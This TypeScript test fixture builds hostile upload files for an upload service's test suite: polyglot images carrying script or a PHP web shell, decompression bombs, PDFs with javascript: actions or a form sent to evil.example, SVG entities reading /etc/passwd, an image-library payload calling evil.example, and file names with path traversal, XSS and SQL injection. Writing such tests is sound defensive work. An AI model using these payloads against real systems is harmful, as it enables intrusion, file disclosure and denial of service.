/** Files with a false type, with too much data after decompression, or with active content. */
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { bombPdf, makePdf, manyPages, pageOfSize, pdfOf, scriptedPdf, streamOf } from './pdfs.ts';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
  /** The real type: routes for it may accept the file, all others refuse it. */
  readonly really: 'picture' | 'pdf' | 'neither';
}

/** Must never appear in a stored picture. */
export const MARKER = 'alert(1)';
const script = `<script>${MARKER}</script>`;
const html = `<!doctype html><html><body>${script}<img src=x onerror=${MARKER}></body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${MARKER}">${script}</svg>`;
const entities = Array.from({ length: 10 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('');

const text = (content: string) => Buffer.from(content);
const bytesOf = (hex: string, more = '') => Buffer.concat([Buffer.from(hex.replaceAll(' ', ''), 'hex'), text(more)]);
const plain = (width = 40, height = 40) => sharp({ create: { width, height, channels: 3, background: '#246' } });

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length);
  head.write(type, 4, 'latin1');
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
  return Buffer.concat([head, data, sum]);
}

const pngHead = bytesOf('89504e470d0a1a0a');
function header(width: number, height: number): Buffer {
  const data = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 2, 0, 0, 0]);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  return chunk('IHDR', data);
}
const png = (width: number, height: number, ...chunks: Buffer[]) =>
  Buffer.concat([pngHead, header(width, height), ...chunks, chunk('IEND', Buffer.alloc(0))]);
/** Inserts a chunk after the first one of a real picture. */
const withChunk = (picture: Buffer, added: Buffer) =>
  Buffer.concat([picture.subarray(0, 33), added, picture.subarray(33)]);

const onePage = (catalogue: string, ...more: (string | Buffer)[]) =>
  pdfOf(
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>',
    ...more,
  );

async function pictures(): Promise<HostileFile[]> {
  const [aPng, aJpeg, aWebp] = await Promise.all([
    plain().png().toBuffer(),
    plain().jpeg().toBuffer(),
    plain().webp().toBuffer(),
  ]);
  const huge = await plain(8_000, 5_001).png().toBuffer();
  const comment = Buffer.concat([bytesOf('fffe'), Buffer.from([0, script.length + 2]), text(script)]);
  const badSum = Buffer.from(aPng);
  badSum.writeUInt32BE(1, 29);
  const really = 'picture' as const;
  return [
    { name: 'PNG with HTML after it', bytes: Buffer.concat([aPng, text(html)]), really },
    { name: 'JPEG with a ZIP after it', bytes: Buffer.concat([aJpeg, bytesOf('504b0304', MARKER)]), really },
    { name: 'WebP with a script after it', bytes: Buffer.concat([aWebp, text(script)]), really },
    {
      name: 'JPEG with a script in its comment',
      bytes: Buffer.concat([aJpeg.subarray(0, 2), comment, aJpeg.subarray(2)]),
      really,
    },
    {
      name: 'PNG with a script in its text',
      bytes: withChunk(aPng, chunk('tEXt', text(`Comment\0${script}`))),
      really,
    },
    {
      name: 'PNG with text that decompresses to 100 MB',
      bytes: withChunk(aPng, chunk('zTXt', Buffer.concat([text('C\0\0'), deflateSync(Buffer.alloc(100_000_000))]))),
      really,
    },
    { name: 'PNG of 40 megapixels and more', bytes: huge, really },
    { name: 'PNG that says it is 65,535 wide and high', bytes: png(65_535, 65_535), really },
    { name: 'PNG that says it is 2,147,483,647 wide', bytes: png(2_147_483_647, 1), really },
    { name: 'PNG of width zero', bytes: png(0, 0), really },
    {
      name: 'PNG whose pixels decompress to 200 MB',
      bytes: png(6_000, 6_000, chunk('IDAT', deflateSync(Buffer.alloc(200_000_000)))),
      really,
    },
    { name: 'PNG with a wrong checksum', bytes: badSum, really },
    { name: 'PNG cut off', bytes: aPng.subarray(0, aPng.length - 30), really },
    { name: 'PNG with only a header', bytes: pngHead, really },
    { name: 'JPEG cut off', bytes: aJpeg.subarray(0, aJpeg.length / 2), really },
    { name: 'JPEG of two bytes', bytes: aJpeg.subarray(0, 3), really },
    { name: 'WebP cut off', bytes: aWebp.subarray(0, 20), really },
    { name: 'JPEG with PHP in it', bytes: Buffer.concat([aJpeg, text('<?php system($_GET[1]); ?>')]), really },
  ];
}

async function documents(): Promise<HostileFile[]> {
  const whole = await makePdf({ pages: 3 });
  const really = 'pdf' as const;
  return [
    { name: 'PDF with scripts, a program and a file', bytes: scriptedPdf(), really },
    {
      name: 'PDF whose link is a script',
      bytes: onePage(`/OpenAction << /S /URI /URI (javascript:${MARKER}) >>`),
      really,
    },
    {
      name: 'PDF that sends a form elsewhere',
      bytes: onePage('/OpenAction << /S /SubmitForm /F (https://evil.example/) >>'),
      really,
    },
    {
      name: 'PDF that opens another file',
      bytes: onePage('/OpenAction << /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >>'),
      really,
    },
    {
      name: 'PDF with a form of XML',
      bytes: onePage('/AcroForm << /XFA 4 0 R >>', streamOf('', text(`<xdp:xdp>${script}</xdp:xdp>`))),
      really,
    },
    { name: 'PDF with HTML after it', bytes: Buffer.concat([whole, text(html)]), really },
    { name: 'PDF with a ZIP after it', bytes: Buffer.concat([whole, bytesOf('504b0304', MARKER)]), really },
    { name: 'PDF after HTML', bytes: Buffer.concat([text(html), whole]), really },
    { name: 'PDF that decompresses to 60 MB', bytes: bombPdf(60), really },
    { name: 'PDF of 301 pages', bytes: manyPages(301), really },
    { name: 'PDF with a page of 20,000 points', bytes: pageOfSize(20_000, 20_000), really },
    { name: 'PDF with a password', bytes: await makePdf({ userPassword: 'secret', ownerPassword: 'more' }), really },
    { name: 'PDF cut off', bytes: whole.subarray(0, 500), really },
    { name: 'PDF with only the first line', bytes: text('%PDF-1.7\n'), really },
    { name: 'PDF with the first line and HTML', bytes: text(`%PDF-1.7\n${html}`), really },
    {
      name: 'PDF whose pages contain themselves',
      bytes: pdfOf('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [2 0 R] >>'),
      really,
    },
    {
      name: 'PDF whose objects refer to each other',
      bytes: pdfOf('<< /Type /Catalog /Pages 2 0 R >>', '3 0 R', '2 0 R'),
      really,
    },
  ];
}

function others(): HostileFile[] {
  const list: Record<string, Buffer> = {
    nothing: Buffer.alloc(0),
    'one byte': Buffer.alloc(1),
    'a megabyte of NUL': Buffer.alloc(1_000_000),
    HTML: text(html),
    'HTML with a UTF-16 byte order mark': Buffer.concat([bytesOf('fffe'), Buffer.from(html, 'utf16le')]),
    SVG: text(svg),
    'SVG with entities that expand': text(`<!DOCTYPE svg [<!ENTITY e0 "x">${entities}]><svg>&e10;</svg>`),
    'SVG that reads a file': text(
      '<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg><text>&f;</text></svg>',
    ),
    'SVG, compressed': gzipSync(svg),
    'GIF that is a script': text(`GIF89a/*\0\0*/=1;${MARKER}`),
    'BMP that is a script': text(`BM/*\0\0\0\0*/=1;${MARKER}`),
    TIFF: bytesOf('49492a0008000000', MARKER),
    ICO: bytesOf('000001000100', MARKER),
    HEIC: bytesOf('0000001866747970686569630000', MARKER),
    AVIF: bytesOf('0000001c66747970617669660000', MARKER),
    PostScript: text('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'),
    'a program for an image library': text(
      "push graphic-context\nfill 'url(https://evil.example/|id)'\npop graphic-context",
    ),
    ZIP: bytesOf('504b030414000000', MARKER),
    'ten megabytes of nothing, compressed': gzipSync(Buffer.alloc(10_000_000)),
    'a program for Windows': bytesOf('4d5a9000', MARKER),
    'a program for Linux': bytesOf('7f454c4602010100', MARKER),
    'a shell script': text('#!/bin/sh\nid'),
    'an email with HTML': text(`MIME-Version: 1.0\nContent-Type: text/html\n\n${html}`),
    JSON: text('{"__proto__":{"admin":true}}'),
  };
  return Object.entries(list).map(([name, bytes]) => ({ name, bytes, really: 'neither' }));
}

export const makeHostileFiles = async (): Promise<readonly HostileFile[]> => [
  ...(await pictures()),
  ...(await documents()),
  ...others(),
];

/** The declared types. */
export const hostileNames: readonly string[] = [
  'picture.png',
  'paper.pdf',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/cron.d/x',
  'C:\\autoexec.bat',
  'x.png\u0000.html',
  'x.php.png',
  'x.svg',
  '.htaccess',
  'CON',
  '%2e%2e%2fx.pdf',
  'x\u202egnp.exe',
  `<img src=x onerror=${MARKER}>.pdf`,
  `${'long'.repeat(500)}.png`,
  "'; DROP TABLE files; --.pdf",
];
